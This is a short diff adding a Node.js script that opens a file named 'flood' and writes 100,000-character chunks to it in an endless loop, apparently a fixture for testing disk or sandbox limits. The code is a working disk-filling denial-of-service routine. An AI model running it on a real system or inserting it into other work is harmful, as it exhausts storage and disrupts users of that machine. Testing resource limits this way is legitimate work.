@@ -1,0 +1,4 @@
+const fs = require("fs");
+
+const file = fs.openSync("flood", "w");
+for (;;) fs.writeSync(file, "x".repeat(100_000));
